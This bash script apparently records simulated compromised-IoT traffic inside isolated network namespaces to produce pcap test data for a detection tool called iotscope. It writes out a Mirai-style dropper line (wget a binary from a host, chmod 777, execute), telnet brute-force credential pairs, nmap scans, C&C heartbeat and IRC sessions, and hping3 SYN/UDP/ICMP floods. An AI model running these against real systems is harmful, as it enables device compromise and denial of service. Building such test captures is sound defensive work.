#!/usr/bin/env bash
# Record "compromised IoT device" behaviours with real programs, in private network
# namespaces (all named rva-*), to test iotscope on them, in the manner of
# testdata/recorded/record.sh.  No packet leaves the namespaces: the
# "internet" addresses exist only on the lo of namespace rva-gw, which forwards nothing.
#
# Usage (as root): testdata/recorded/infected/record.sh [scan-brute] [download-cnc] [dns-flood]
#   (HYDRA=1 adds a run of hydra's telnet module to scan-brute). Writes the .pcap files beside this script.
#
# LAN 10.98.1.0/24 on a bridge (rva-br in namespace rva-sw); tcpdump listens on the bridge
# (promiscuous: sees every frame between the ports).
#   rva-dev 10.98.1.50  the infected device (DHCP from rva-gw, host name IPCAM-7F2C)
#   rva-gw  10.98.1.1   router + LAN resolver (dnsmasq); on its lo the public-looking hosts:
#           8.8.8.8 (dnsmasq), 45.148.10.81 (busybox httpd with ELF "bins", no Content-Type),
#           45.148.10.82 (python3 http.server, the same files as application/octet-stream),
#           185.244.25.10:48101 (Mirai-like C&C, socat echo), 185.244.25.11:6667 (ngircd),
#           93.184.216.34 (flood target, httpd on :80), 61.177.172.5/.77/.200 (scan range:
#           .77 answers telnet, .5 and .200 refuse, all other addresses of the /24 are silent)
#   rva-v1  10.98.1.10  inetutils telnetd on tcp/23 (brute-force victim)
#   rva-v2  10.98.1.11  inetutils telnetd on tcp/2323
#   rva-v3  10.98.1.12  nothing listening (refuses)
# Test account on rva-v1: user rvaadmin, password RvaPa55-Zq7 (wrong ones tried: xc3511,
# vizxv, 7ujMko0admin, admin, 888888).
set -euo pipefail
OUT=${OUT:-$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)}
WORK=$(mktemp -d /tmp/iotscope-rva.XXXX); chmod 755 "$WORK"
USER_OK=rvaadmin; PASS_OK='RvaPa55-Zq7'
NSS=(rva-sw rva-dev rva-gw rva-v1 rva-v2 rva-v3)
PIDS=(); CAP_PID=
log() { printf '[rva] %s\n' "$*" >&2; }

cleanup() {
  set +e
  [[ -n $CAP_PID ]] && { kill -INT "$CAP_PID"; wait "$CAP_PID"; }
  for p in "${PIDS[@]}"; do kill -TERM "$p" 2>/dev/null; done
  for p in "${PIDS[@]}"; do wait "$p" 2>/dev/null; done
  for ns in "${NSS[@]}"; do
    for p in $(ip netns pids "$ns" 2>/dev/null); do kill -KILL "$p" 2>/dev/null; done
    ip netns del "$ns" 2>/dev/null
  done
  rm -rf "$WORK"
}
trap cleanup EXIT; trap 'exit 130' INT TERM

id "$USER_OK" >/dev/null 2>&1 || useradd --create-home --shell /bin/sh "$USER_OK"
echo "$USER_OK:$PASS_OK" | chpasswd

setup() {
  for ns in "${NSS[@]}"; do ip netns del "$ns" 2>/dev/null || true; done
  for ns in "${NSS[@]}"; do
    ip netns add "$ns"
    ip netns exec "$ns" sysctl -q -w net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
    ip -n "$ns" link set lo up
  done
  ip -n rva-sw link add rva-br type bridge
  ip -n rva-sw link set rva-br up
  local n mac
  declare -A MAC=([dev]=e0:50:8b:12:7f:2c [gw]=00:0e:c6:a1:00:01 [v1]=a4:14:37:00:00:10 [v2]=bc:ad:28:00:00:11 [v3]=00:11:32:00:00:12)
  for n in dev gw v1 v2 v3; do
    ip link add "rva-$n-p" netns rva-sw type veth peer name "rva-$n" netns "rva-$n"
    ip -n "rva-$n" link set "rva-$n" address "${MAC[$n]}"
    ip -n rva-sw link set "rva-$n-p" master rva-br up
    ip -n "rva-$n" link set "rva-$n" up
    ip netns exec "rva-$n" ethtool -K "rva-$n" tx off tso off gso off gro off >/dev/null 2>&1 || true
    ip netns exec rva-sw ethtool -K "rva-$n-p" tx off tso off gso off gro off >/dev/null 2>&1 || true
  done
  ip -n rva-gw addr add 10.98.1.1/24 dev rva-gw
  ip -n rva-v1 addr add 10.98.1.10/24 dev rva-v1
  ip -n rva-v2 addr add 10.98.1.11/24 dev rva-v2
  ip -n rva-v3 addr add 10.98.1.12/24 dev rva-v3
  for a in 8.8.8.8 45.148.10.81 45.148.10.82 185.244.25.10 185.244.25.11 93.184.216.34 61.177.172.5 61.177.172.77 61.177.172.200; do
    ip -n rva-gw addr add "$a/32" dev lo
  done
  ip netns exec rva-gw sysctl -q -w net.ipv4.ip_forward=0
  printf 'nameserver 10.98.1.1\n' >"$WORK/resolv.conf"; chmod 644 "$WORK/resolv.conf"
}

# Run in a namespace with its own UTS (host name) and, for the device, the LAN resolver.
in_ns() { local ns=$1 h=$2; shift 2
  ip netns exec "$ns" unshare --uts --mount --propagation private \
    sh -c 'mount --bind "$0" /etc/resolv.conf && hostname "$1" && shift && exec "$@"' "$WORK/resolv.conf" "$h" "$@"; }
daemon() { local name=$1 ns=$2; shift 2
  ip netns exec "$ns" unshare --uts sh -c 'hostname "$0" && exec "$@"' "$ns" "$@" >"$WORK/$name.out" 2>&1 &
  PIDS+=($!); }
wait_listen() { local ns=$1 flag=$2 port=$3 i
  for i in $(seq 1 100); do ip netns exec "$ns" ss "$flag" "sport = :$port" | grep -q . && return 0; sleep 0.1; done
  tail "$WORK"/*.out >&2; log "nothing on $port in $ns"; exit 1; }

start_servers() {
  # Router: DHCP + DNS on the LAN address, and the same dnsmasq answering on 8.8.8.8.
  daemon dnsmasq rva-gw dnsmasq -k -C /dev/null -u root --pid-file= --no-resolv --no-hosts \
    --bind-interfaces --listen-address=10.98.1.1,8.8.8.8 --interface=rva-gw --interface=lo \
    --dhcp-range=10.98.1.100,10.98.1.150,1h --dhcp-host=e0:50:8b:12:7f:2c,10.98.1.50 \
    --dhcp-option=3,10.98.1.1 --dhcp-option=6,10.98.1.1 --dhcp-leasefile="$WORK/leases" \
    --address=/ntp.example-iot.com/10.98.1.1 --address=/cnc.xyzbot-example.top/185.244.25.10 \
    --address=/dl.xyzbot-example.top/45.148.10.81 --address=/api.camcloud-example.com/93.184.216.34 \
    --log-queries --log-facility=-
  wait_listen rva-gw -Hlun 53
  # The malware "bins" server, the flood target's web server.
  mkdir -p "$WORK/www/bins"
  cp /usr/bin/date "$WORK/www/bins/mirai.x86"           # 122 kB ELF
  cp /bin/true "$WORK/www/bins/mirai.arm7"              # 36 kB ELF
  printf '#!/bin/sh\ncd /tmp || cd /var/run\nwget http://45.148.10.81/bins/mirai.x86 -O .x; chmod 777 .x; ./.x telnet.x86\n' >"$WORK/www/bins.sh"
  chmod -R a+rX "$WORK/www"
  daemon httpd-bins rva-gw busybox httpd -f -p 45.148.10.81:80 -h "$WORK/www"
  cp /usr/bin/dash "$WORK/www/bins/mirai.mips"           # 125 kB ELF, served by python as application/octet-stream
  chmod -R a+rX "$WORK/www"
  daemon httpd-py rva-gw python3 -m http.server --bind 45.148.10.82 --directory "$WORK/www" 80
  daemon httpd-target rva-gw busybox httpd -f -p 93.184.216.34:80 -h "$WORK/www"
  # Mirai-like C&C: echoes the bot's heartbeats.
  daemon cnc rva-gw socat TCP-LISTEN:48101,bind=185.244.25.10,reuseaddr,fork EXEC:cat
  # IRC C&C.
  cat >"$WORK/ngircd.conf" <<EOF
[Global]
Name = irc.xyzbot-example.top
Info = x
Listen = 185.244.25.11
Ports = 6667
PidFile = $WORK/ngircd.pid
ServerUID = 0
ServerGID = 0
MotdPhrase = welcome
[Limits]
PingTimeout = 600
[Options]
DNS = no
Ident = no
PAM = no
[Channel]
Name = #xyz
EOF
  daemon ngircd rva-gw ngircd -n -f "$WORK/ngircd.conf"
  # Telnet on the internet host 61.177.172.77 (banner only).
  daemon tel-pub rva-gw socat TCP-LISTEN:23,bind=61.177.172.77,reuseaddr,fork SYSTEM:'printf "\\r\\nlogin: "; sleep 1'
  # Telnet victims.
  printf 'telnet stream tcp nowait root /usr/sbin/telnetd telnetd -h\n' >"$WORK/inetd-v1.conf"
  printf '2323 stream tcp nowait root /usr/sbin/telnetd telnetd -h\n' >"$WORK/inetd-v2.conf"
  daemon inetd-v1 rva-v1 inetutils-inetd -d -p "$WORK/inetd1.pid" "$WORK/inetd-v1.conf"
  daemon inetd-v2 rva-v2 inetutils-inetd -d -p "$WORK/inetd2.pid" "$WORK/inetd-v2.conf"
  wait_listen rva-v1 -Hltn 23; wait_listen rva-v2 -Hltn 2323; wait_listen rva-gw -Hltn 6667
}

cap_start() {
  rm -f "$OUT/$1"
  for n in dev gw v1 v2 v3; do ip -n "rva-$n" neigh flush dev "rva-$n" 2>/dev/null || true; done
  : >"$WORK/tcpdump.log"
  ip netns exec rva-sw tcpdump -i rva-br -n -U -w "$OUT/$1" >"$WORK/tcpdump.log" 2>&1 &
  CAP_PID=$!
  for i in $(seq 1 100); do grep -q 'listening on' "$WORK/tcpdump.log" && break; sleep 0.1; done
  sleep 0.5
}
cap_stop() { sleep 1; kill -INT "$CAP_PID"; wait "$CAP_PID" || true; CAP_PID=; log "$(tail -n 3 "$WORK/tcpdump.log" | tr '\n' ' ')"; }

dev() { in_ns rva-dev IPCAM-7F2C "$@"; }

dhcp() { # the camera's DHCP (busybox udhcpc) gives it its address, its name and its router
  ip -n rva-dev addr flush dev rva-dev
  dev busybox udhcpc -i rva-dev -n -q -f -x hostname:IPCAM-7F2C -V "hi3518-ipcam" -s "$WORK/udhcpc.sh" >"$WORK/udhcpc.log" 2>&1
}
write_udhcpc_script() {
  cat >"$WORK/udhcpc.sh" <<'EOF'
#!/bin/sh
case "$1" in bound|renew) ip addr add "$ip/${mask:-24}" dev "$interface"; ip route replace default via "$router" ;; esac
EOF
  chmod 755 "$WORK/udhcpc.sh"
}

record_scan_brute() {
  cap_start scan-brute.pcap
  dhcp
  # Mirai-style: SYNs to tcp/23 and 2323 of the local /24, then of an internet /24.
  dev nmap -n -Pn -sS -p 23,2323 --max-retries 0 --min-rate 300 10.98.1.0/24 >"$WORK/nmap1.log" 2>&1
  dev nmap -n -Pn -sS -p 23,2323 --max-retries 0 --min-rate 300 61.177.172.0/24 >"$WORK/nmap2.log" 2>&1
  # Brute force of the telnet found open: four wrong pairs, then the right one.
  printf 'root:xc3511\nroot:vizxv\nadmin:7ujMko0admin\nadmin:admin\nsupport:888888\n%s:%s\n' "$USER_OK" "$PASS_OK" >"$WORK/combo.txt"
  # One telnet connection per pair, as Mirai does.  (hydra's telnet module garbles the
  # exchange with inetutils telnetd: hydra-messy.pcap was recorded with HYDRA=1.)
  if [[ -n ${HYDRA:-} ]]; then
    dev hydra -t 1 -W 1 -C "$WORK/combo.txt" -f telnet://10.98.1.10 >"$WORK/hydra.log" 2>&1 || true
  fi
  cat >"$WORK/tel.exp" <<'EOF'
set timeout 20
lassign $argv host user pass
spawn telnet $host
expect "login: "
send "$user\r"
expect "Password:"
send "$pass\r"
expect {
  "Login incorrect" { send "\035"; expect "telnet>"; send "quit\r"; expect eof; exit 3 }
  -re {\$ $} {}
}
send "enable\r"
expect -re {\$ $}
send "/bin/busybox ECCHI\r"
expect -re {\$ $}
send "cat /proc/cpuinfo | head -n 2\r"
expect -re {\$ $}
send "exit\r"
expect eof
EOF
  local u p
  while IFS=: read -r u p; do
    dev env TERM=vt100 LANG=C expect -f "$WORK/tel.exp" 10.98.1.10 "$u" "$p" </dev/null >>"$WORK/tel.log" 2>&1 \
      && log "login $u ok" || log "login $u refused"
  done <"$WORK/combo.txt"
  cap_stop
  cp "$WORK/nmap1.log" "$WORK/nmap2.log" "$WORK/hydra.log" "$OUT/" 2>/dev/null || true
}

record_download_cnc() {
  cap_start download-cnc.pcap
  dhcp
  dev sh -c 'cd /tmp && busybox wget -q http://45.148.10.81/bins.sh -O /tmp/rva-bins.sh && busybox wget -q http://45.148.10.81/bins/mirai.x86 -O /tmp/rva-m.x86 && busybox wget -q http://45.148.10.81/bins/mirai.arm7 -O /tmp/rva-m.arm7; busybox wget -q http://45.148.10.82/bins/mirai.mips -O /tmp/rva-m.mips; rm -f /tmp/rva-bins.sh /tmp/rva-m.x86 /tmp/rva-m.arm7 /tmp/rva-m.mips'
  # Two C&C channels for ~170 s: a Mirai-like 2-byte heartbeat every 15 s to 185.244.25.10:48101,
  # and an IRC session (PING every 15 s, a line in the channel) to 185.244.25.11:6667.
  dev sh -c 'for i in $(seq 1 11); do printf "\000\000"; sleep 15; done' | dev nc -q 2 185.244.25.10 48101 >/dev/null &
  local p1=$!
  dev sh -c 'printf "NICK x86b7f2c\r\nUSER x86 0 * :x86\r\n"; sleep 2; printf "JOIN #xyz\r\n"; for i in $(seq 1 11); do sleep 15; printf "PING :irc.xyzbot-example.top\r\n"; done; printf "QUIT :bye\r\n"; sleep 1' | dev nc -q 2 185.244.25.11 6667 >"$WORK/irc.log" &
  local p2=$!
  wait $p1 $p2 || true
  cap_stop
}

record_dns_flood() {
  cap_start dns-flood.pcap
  dhcp
  # A lookup through the LAN resolver, then lookups sent straight to 8.8.8.8.
  dev busybox nslookup ntp.example-iot.com >/dev/null 2>&1 || true
  dev busybox nslookup cnc.xyzbot-example.top 8.8.8.8 >/dev/null 2>&1 || true
  dev kdig +short @8.8.8.8 dl.xyzbot-example.top A >/dev/null 2>&1 || true
  dev kdig +short +tcp @8.8.8.8 api.camcloud-example.com A >/dev/null 2>&1 || true
  sleep 1
  # Floods of 93.184.216.34: 1500 SYNs to tcp/80 at 2 ms, then 2400 UDP datagrams of 480 bytes to
  # udp/53 at 0.4 ms (1.2 MB in about a second), then 300 pings at 2 ms.
  dev hping3 -q -S -p 80 -i u2000 -c 1500 93.184.216.34 >"$WORK/hping1.log" 2>&1 || true
  dev hping3 -q --udp -p 53 -d 480 -i u400 -c 2400 93.184.216.34 >"$WORK/hping2.log" 2>&1 || true
  dev hping3 -q --icmp -i u2000 -c 300 93.184.216.34 >"$WORK/hping3.log" 2>&1 || true
  cap_stop
}

setup
write_udhcpc_script
start_servers
wanted=("$@"); [[ ${#wanted[@]} -eq 0 ]] && wanted=(scan-brute download-cnc dns-flood)
for c in "${wanted[@]}"; do log "recording $c"; "record_${c//-/_}"; done
ls -l "$OUT"/*.pcap >&2
